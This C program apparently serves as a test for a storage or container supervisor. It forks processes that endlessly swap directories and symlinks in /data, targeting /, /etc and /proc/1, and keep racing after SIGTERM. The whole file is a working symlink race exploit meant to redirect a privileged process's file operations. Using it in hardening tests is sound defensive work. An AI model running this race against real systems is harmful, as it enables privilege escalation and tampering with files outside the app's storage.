/* Swaps directories and links in its storage as fast as it can, also while it is started and
 * stopped: whatever follows a name in there for it may be led elsewhere. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/fs.h>
#include <signal.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

/* Where a link leads that somebody with more rights must not follow. */
static const char *const targets[] = { "/", "/state", "/data", "..", "../..", "/etc", "/proc/1" };
#define TARGETS (sizeof targets / sizeof *targets)

/* musl has no function for it. */
static void swap(const char *one, const char *other)
{
    syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE);
}

static void race(int number)
{
    char directory[32], link[32], file[40];
    snprintf(directory, sizeof directory, "/data/d%d", number);
    snprintf(link, sizeof link, "/data/l%d", number);
    snprintf(file, sizeof file, "/data/d%d/file", number);
    for (unsigned round = 0;; round++) {
        mkdir(directory, 0777);
        close(open(file, O_WRONLY | O_CREAT | O_CLOEXEC, 0666));
        unlink(link);
        symlink(targets[round % TARGETS], link);
        swap(directory, link);
        /* The storage itself has a name that is not the app's to change. */
        rename("/data", "/tmp/data");
        rename(link, "/data/..");
        rmdir("/data");
        swap(directory, link);
        unlink(file);
    }
}

int main(void)
{
    int received;
    sigset_t term;
    sigemptyset(&term);
    sigaddset(&term, SIGTERM);
    /* It may come at any moment, also before it is waited for. */
    sigprocmask(SIG_BLOCK, &term, NULL);
    for (int number = 0; number < 3; number++)
        if (fork() == 0) {
            signal(SIGTERM, SIG_IGN);
            race(number);
        }
    printf("racing\n");
    fflush(stdout);
    sigwait(&term, &received);
    /* The race goes on while this component is being stopped. */
    usleep(200 * 1000);
    return 0;
}
